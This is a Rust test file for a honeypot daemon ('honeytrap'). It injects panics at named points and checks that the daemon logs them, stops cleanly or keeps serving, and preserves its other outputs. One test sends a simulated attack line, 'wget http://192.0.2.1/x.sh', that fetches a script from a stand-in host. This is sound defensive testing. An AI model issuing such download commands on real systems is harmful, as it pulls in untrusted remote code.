//! Panics contained the way the daemon promises, proven with the test-only fault switch
//! (`HONEYTRAP_FAULT`, debug builds): the real binary panics on purpose at a named point and
//! the test checks the log line (thread, message, place), what the daemon does next (a clean
//! stop with exit status 2, a port served again, the attack's other outputs written) and,
//! detached, that the line still reaches the log and syslog.

mod common;

use common::*;
use std::net::{SocketAddr, UdpSocket};
use std::path::Path;
use std::time::{Duration, Instant};

const T: Duration = Duration::from_secs(20);
const PORT: u16 = 4711;

/// Whether this build has the fault switch (a release build compiles it out).
fn armed(test: &str) -> bool {
    if !root_or_skip(test, &["ip"]) {
        return false;
    }
    if !cfg!(debug_assertions) {
        skip(test, "the fault switch exists in debug builds only");
        return false;
    }
    true
}

/// Address `port` on the sensor's loopback.
fn to(port: u16) -> SocketAddr {
    ([127, 0, 0, 1], port).into()
}

/// What these tests ask of a [`Sensor`].
trait Faults {
    fn start_with_fault(&self, launch: Launch, fault: &str) -> Running;
    fn panic_line(&self, thread: &str, file: &str, message: &str) -> String;
    fn stopped_after_panic(&self, daemon: &mut Running);
}

impl Faults for Sensor {
    /// Starts the daemon the `launch` way with the fault switch set to `fault`.
    fn start_with_fault(&self, launch: Launch, fault: &str) -> Running {
        self.start(launch, &[("HONEYTRAP_FAULT", fault)])
    }

    /// Waits for the panic line of `thread` at `file` with `message`; returns it.
    fn panic_line(&self, thread: &str, file: &str, message: &str) -> String {
        let mut found = None;
        wait_until(T, || {
            found = self.log().lines().find(|l| is_panic_line(l, thread, file, message)).map(str::to_string);
            found.is_some()
        });
        found.unwrap_or_else(|| panic!("no panic line of '{thread}' at {file}: {message}; log:\n{}", self.log()))
    }

    /// The stop that follows a panic: the "stopped" line, the pid file removed, the process
    /// gone, exit status 2 when it can be seen.
    fn stopped_after_panic(&self, daemon: &mut Running) {
        let status = daemon.wait(T).unwrap_or_else(|e| panic!("{e}; log:\n{}", self.log()));
        if let Some(st) = status {
            assert_eq!(st.code(), Some(2), "{}", self.log());
        }
        assert!(self.log().contains("---- honeytrap stopped ----"), "{}", self.log());
        assert!(!self.path("honeytrap.pid").exists(), "pid file removed");
    }
}

/// `[time] Error - Thread '<thread>' panicked at <file>:<line>:<column>: <message>`.
fn is_panic_line(l: &str, thread: &str, file: &str, message: &str) -> bool {
    let Some(rest) = l.split_once(&format!("] Error - Thread '{thread}' panicked at {file}:")).map(|x| x.1) else {
        return false;
    };
    let mut parts = rest.splitn(3, ':');
    let number = |p: Option<&str>| p.is_some_and(|n| !n.is_empty() && n.bytes().all(|b| b.is_ascii_digit()));
    number(parts.next()) && number(parts.next()) && parts.next() == Some(&format!(" {message}"))
}

/// A panic of the signal thread (at the first signal) stops the daemon cleanly: the open
/// connection ends and its record is written, the pid file goes, exit status 2.
fn signal_thread_panic(launch: Launch) {
    let s = Sensor::new("panic-signals", "");
    let mut daemon = s.start_with_fault(launch, "signal-thread");
    let mut held = connect_served(&s.ns, to(PORT)).expect("port served");
    std::io::Write::write_all(&mut held, b"held open\n").unwrap();
    assert!(wait_for_text(&s.path("honeytrap.log"), "Handling tcp connection request", T), "{}", s.log());
    daemon.signal("HUP");
    s.panic_line("signals", "src/daemon/control.rs", "injected fault at signal-thread (pass 1)");
    assert!(wait_for_text(&s.path("honeytrap.log"), "Error - The signal thread failed, stopping.", T), "{}", s.log());
    s.stopped_after_panic(&mut daemon);
    assert!(!s.log().contains("honeytrap reconfigured"), "{}", s.log());
    assert!(read(&s.path("attacker.log")).contains("(10 bytes)"), "the open connection's record: {}", s.log());
}

#[test]
fn signal_thread_panic_stops_the_foreground_daemon_cleanly() {
    if armed("signal_thread_panic_stops_the_foreground_daemon_cleanly") {
        signal_thread_panic(Launch::Foreground);
    }
}

#[test]
fn signal_thread_panic_stops_the_detached_daemon_cleanly() {
    if armed("signal_thread_panic_stops_the_detached_daemon_cleanly") {
        signal_thread_panic(Launch::Detached);
    }
}

/// A panic of the monitor loop (the main thread, at the first packet it reads) stops the
/// daemon cleanly with exit status 2.
#[test]
fn monitor_panic_stops_the_daemon_cleanly() {
    if !armed("monitor_panic_stops_the_daemon_cleanly") {
        return;
    }
    let s = Sensor::new("panic-monitor", "");
    let mut daemon = s.start_with_fault(Launch::Foreground, "monitor");
    // A refused attempt is the first packet pcap reports.
    let ns = s.ns.0.clone();
    in_netns(&ns, || std::net::TcpStream::connect_timeout(&to(PORT), Duration::from_secs(1)).err());
    s.panic_line("main", "src/daemon/mod.rs", "injected fault at monitor (pass 1)");
    assert!(wait_for_text(&s.path("honeytrap.log"), "Error - The monitor loop failed, stopping.", T), "{}", s.log());
    s.stopped_after_panic(&mut daemon);
}

/// Sends datagrams from `ns` to `to` until one is answered (the normal-mode reply after an
/// idle interval); false after 20 s.
fn udp_answered(ns: &NetNs, to: SocketAddr) -> bool {
    in_netns(&ns.0, move || {
        let sock = UdpSocket::bind("127.0.0.1:0").unwrap();
        sock.set_read_timeout(Some(Duration::from_millis(1500))).unwrap();
        let end = Instant::now() + T;
        let mut buf = [0u8; 64];
        while Instant::now() < end {
            let _ = sock.send_to(b"hello\n", to);
            if sock.recv(&mut buf).is_ok() {
                return true;
            }
        }
        false
    })
}

/// A listener whose thread panics frees its port: the next attempt binds a new server that
/// serves it. TCP first (its first listener panics), then UDP (its first one does).
#[test]
fn panicking_listeners_free_their_ports() {
    if !armed("panicking_listeners_free_their_ports") {
        return;
    }
    let s = Sensor::new("panic-listener", "");
    let mut daemon = s.start_with_fault(Launch::Foreground, "listener@1,listener@3");
    assert!(attack(&s.ns, to(PORT), b"served again\n"), "{}", s.log());
    s.panic_line(&format!("listen {PORT}/tcp"), "src/server/engine.rs", "injected fault at listener (pass 1)");
    let closed = format!("{PORT}/tcp  Error - The server failed and was closed.");
    assert!(wait_for_text(&s.path("honeytrap.log"), &closed, T), "{}", s.log());
    assert!(wait_until(T, || read(&s.path("attacker.log")).contains("(13 bytes)")), "{}", s.log());

    let udp = PORT + 1;
    assert!(udp_answered(&s.ns, to(udp)), "{}", s.log());
    s.panic_line(&format!("listen {udp}/udp"), "src/server/engine.rs", "injected fault at listener (pass 3)");
    let status = daemon.stop(T).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(status.and_then(|st| st.code()), Some(0), "{}", s.log());
}

/// Panicking pipeline stages (decoders, extraction, SaveFile every time, logAttacker once)
/// cost the attack nothing else: logJSON and the events get every record, logAttacker the
/// second one. The daemon runs detached, its stderr on /dev/null: the panic lines are in the
/// log, and in syslog, which mirrors the log.
#[test]
fn panicking_pipeline_stages_keep_the_other_outputs() {
    if !armed("panicking_pipeline_stages_keep_the_other_outputs") {
        return;
    }
    let scratch = TempDir::new("panic-syslog");
    let sock_path = scratch.join("syslog.sock");
    let sock = std::os::unix::net::UnixDatagram::bind(&sock_path).unwrap();
    let attacks = scratch.join("attacks");
    std::fs::create_dir(&attacks).unwrap();
    let s = Sensor::new(
        "panic-pipeline",
        &format!(
            "plugin-b64Decode = \"\"\nplugin-httpDownload = \"\"\n\
             plugin-SaveFile = {{ attacks_dir = \"{}\" }}\n\
             plugin-syslog = {{ target = \"unix:{}\" what = \"log\" }}",
            attacks.display(),
            sock_path.display()
        ),
    );
    let fault = "pipeline-decoders,pipeline-extraction,pipeline-SaveFile,pipeline-logAttacker@1";
    let mut daemon = s.start_with_fault(Launch::Detached, fault);
    for (n, data) in [&b"wget http://192.0.2.1/x.sh\n"[..], &b"second\n"[..]].into_iter().enumerate() {
        assert!(attack(&s.ns, to(PORT), data), "{}", s.log());
        let n = n + 1;
        let written = || s.lines("attackers.json").len() == n && s.lines("events.json").len() == 3 * n;
        assert!(wait_until(T, written), "record {n}; log:\n{}", s.log());
    }
    assert!(wait_until(T, || s.lines("attacker.log").len() == 1), "{}", s.log());
    assert!(read(&s.path("attacker.log")).contains("(7 bytes)"), "the second attack's line");
    assert_eq!(std::fs::read_dir(&attacks).unwrap().count(), 0, "SaveFile panicked each time");

    let log = s.log();
    for (stage, point, pass) in [
        ("decoders", "pipeline-decoders", 1),
        ("download extraction", "pipeline-extraction", 1),
        ("SaveFile", "pipeline-SaveFile", 1),
        ("SaveFile", "pipeline-SaveFile", 2),
        ("logAttacker", "pipeline-logAttacker", 1),
    ] {
        let msg = format!("injected fault at {point} (pass {pass})");
        assert!(log.lines().any(|l| l.contains("panicked at src/pipeline/") && l.ends_with(&msg)), "{msg}:\n{log}");
        let stage_line = format!("Error - Stage {stage} failed on an attack; its other stages and outputs still run.");
        assert!(log.contains(&stage_line), "{stage_line}:\n{log}");
    }
    // One stage line a minute per stage: SaveFile's second panic has its panic line only.
    assert_eq!(log.matches("Stage SaveFile failed").count(), 1, "{log}");
    let mirrored = datagrams(&sock, Duration::from_secs(1));
    assert!(
        mirrored.iter().any(|m| m.contains("panicked at src/pipeline/") && m.contains("pipeline-SaveFile")),
        "{mirrored:?}"
    );
    daemon.stop(T).unwrap_or_else(|e| panic!("{e}"));
    assert!(!Path::new(&format!("/proc/{}", daemon.pid())).exists());
}
